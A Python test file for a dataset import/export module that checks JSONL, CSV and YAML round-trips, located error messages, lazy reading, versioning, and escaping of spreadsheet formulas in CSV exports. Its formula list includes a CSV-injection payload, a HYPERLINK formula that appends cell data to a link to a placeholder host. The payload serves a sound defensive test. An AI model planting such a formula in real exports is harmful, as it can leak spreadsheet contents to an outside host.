"""Datasets: the three file formats round-trip; stored versions change only when the items do."""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from pilothouse.domain.datasets import DatasetError, DatasetItem
from pilothouse.domain.spreadsheet import escape_formula
from pilothouse.evals.datasets import read_items, write_items
from pilothouse.store.evals import EvalStore

ITEMS = [
    DatasetItem("q1", {"topic": "tides", "level": "beginner"}, "moon", {"source": "faq", "rank": 2}),
    DatasetItem("q2", {"topic": 'comma, "quoted"\nand a newline'}, None, {}),
    DatasetItem(
        "chat-1",
        {},
        "Paris",
        {},
        messages=(
            {"role": "system", "content": "Be brief."},
            {"role": "user", "content": "Capital of France?"},
        ),
        source_trace_id="0af7651916cd43dd8448eb211c80319c",
    ),
]


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "yaml"])
def test_round_trip(tmp_path: Path, fmt: str) -> None:
    path = tmp_path / f"items.{fmt}"
    with path.open("w", encoding="utf-8", newline="") as handle:
        assert write_items(ITEMS, handle, fmt) == 3  # type: ignore[arg-type]
    back = list(read_items(path))
    if fmt == "csv":  # CSV cells are text: variables absent from a row come back as ""
        assert [dict(i.input) for i in back] == [
            {"topic": "tides", "level": "beginner"},
            {"topic": ITEMS[1].input["topic"], "level": ""},
            {"topic": "", "level": ""},
        ]
        back = [
            DatasetItem(b.id, o.input, b.expected, b.metadata, b.messages, b.source_trace_id)
            for b, o in zip(back, ITEMS, strict=True)
        ]
    assert back == ITEMS


def test_flat_and_structured_shapes(tmp_path: Path) -> None:
    path = tmp_path / "items.jsonl"
    path.write_text(
        '{"topic": "tides", "expected": "moon"}\n'
        "\n"
        '{"id": 7, "vars": {"topic": "gravity"}, "metadata": {"k": 1}}\n'
        '{"input": "plain text question"}\n'
        '{"input": [{"role": "user", "content": "hi"}]}\n'
    )
    items = list(read_items(path))
    assert [i.id for i in items] == ["1", "7", "3", "4"]
    assert items[0].input == {"topic": "tides"} and items[0].expected == "moon"
    assert items[1].input == {"topic": "gravity"} and items[1].metadata == {"k": 1}
    assert items[2].input == {"input": "plain text question"}
    assert items[3].messages == ({"role": "user", "content": "hi"},)


@pytest.mark.parametrize(
    ("name", "text", "message"),
    [
        ("bad.jsonl", '{"topic": "a"}\n{not json}\n', "bad.jsonl:2: not valid JSON"),
        ("bad.jsonl", '["a list"]\n', "bad.jsonl:1: an item must be a mapping"),
        ("bad.jsonl", '{"input": {"a": 1}, "extra": 2}\n', "unknown key 'extra' next to 'input'"),
        ("bad.csv", "id,topic\n1,a,extra\n", "bad.csv:2: more cells than columns"),
        ("bad.csv", "id,metadata\n1,{nope\n", "column 'metadata' must hold JSON"),
        ("bad.yaml", "items: {a: 1}\n", "a YAML dataset is a list of items"),
        ("bad.txt", "x", "cannot tell the format"),
    ],
)
def test_bad_files_say_where(tmp_path: Path, name: str, text: str, message: str) -> None:
    path = tmp_path / name
    path.write_text(text)
    with pytest.raises(DatasetError, match=message.replace("(", r"\(").replace("'", ".")):
        list(read_items(path))


def test_reading_is_lazy(tmp_path: Path) -> None:
    path = tmp_path / "big.jsonl"
    path.write_text('{"topic": "a"}\n' * 10 + "{broken\n")
    items = read_items(path)
    assert next(items).input == {"topic": "a"}  # the broken line is not read yet


def test_versions_change_only_with_the_items(eval_store: EvalStore) -> None:
    v1, created = eval_store.import_items("default", "golden", ITEMS, source="test")
    assert created and (v1.version, v1.item_count) == (1, 3)
    again, created = eval_store.import_items("default", "golden", list(ITEMS))
    assert not created and again.id == v1.id
    v2, created = eval_store.import_items("default", "golden", ITEMS[:2])
    assert created and (v2.version, v2.item_count) == (2, 2)
    assert [i for _, i in eval_store.iter_items(v1.id)] == ITEMS
    assert eval_store.get_version("default", "golden") == v2
    assert eval_store.get_version("default", "golden", 1) == v1
    [summary] = eval_store.list_datasets("default")
    assert summary.name == "golden" and summary.latest == v2


def test_duplicate_ids_are_refused(eval_store: EvalStore) -> None:
    with pytest.raises(DatasetError, match="same id"):
        eval_store.import_items("default", "dups", [ITEMS[0], ITEMS[0]])
    assert eval_store.get_version("default", "dups") is None


def test_stored_items_stream_in_pages(eval_store: EvalStore) -> None:
    items = [DatasetItem(str(n), {"n": n}) for n in range(2500)]
    version, _ = eval_store.import_items("default", "many", iter(items))
    positions = [p for p, _ in eval_store.iter_items(version.id, page=1000)]
    assert positions == list(range(1, 2501))
    out = io.StringIO()
    write_items((i for _, i in eval_store.iter_items(version.id)), out, "jsonl")
    assert out.getvalue().count("\n") == 2500


FORMULAS = [
    '=HYPERLINK("http://x/?"&A1)',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "=1",
    "'=quoted",
    "''-x",
    "'plain",
]


def test_csv_export_escapes_formulas_and_imports_them_back(tmp_path: Path) -> None:
    """Issue 21 class 10: a cell that a spreadsheet would run as a formula is written with a leading
    single quote (OWASP), and importing the file gives back the values exactly."""
    items = [DatasetItem(str(n), {"topic": value}, value, {}) for n, value in enumerate(FORMULAS)]
    buffer = io.StringIO()
    write_items(items, buffer, "csv")
    lines = buffer.getvalue().split("\n")
    assert lines[1].startswith("0,\"'=HYPERLINK(")
    assert lines[2] == "1,'+1,'+1"
    assert lines[4] == "3,'@SUM(A1),'@SUM(A1)"
    assert lines[8] == "7,'''-x,'''-x"  # quotes before a trigger: one more, so that import is exact
    assert lines[9] == "8,'plain,'plain"  # a quote before text that is no formula stays as it is
    path = tmp_path / "items.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8", newline="")
    back = list(read_items(path))
    assert [(b.input["topic"], b.expected) for b in back] == [(v, v) for v in FORMULAS]
    assert escape_formula("\rx") == "'\rx" and escape_formula(-1.5) == -1.5  # numbers are not text
    for cell in (" =HYPERLINK(1)", "\n=1+1", "\u00a0=1", "\uff1d1+1"):  # what spreadsheets skip or read as =
        assert escape_formula(cell) == "'" + cell
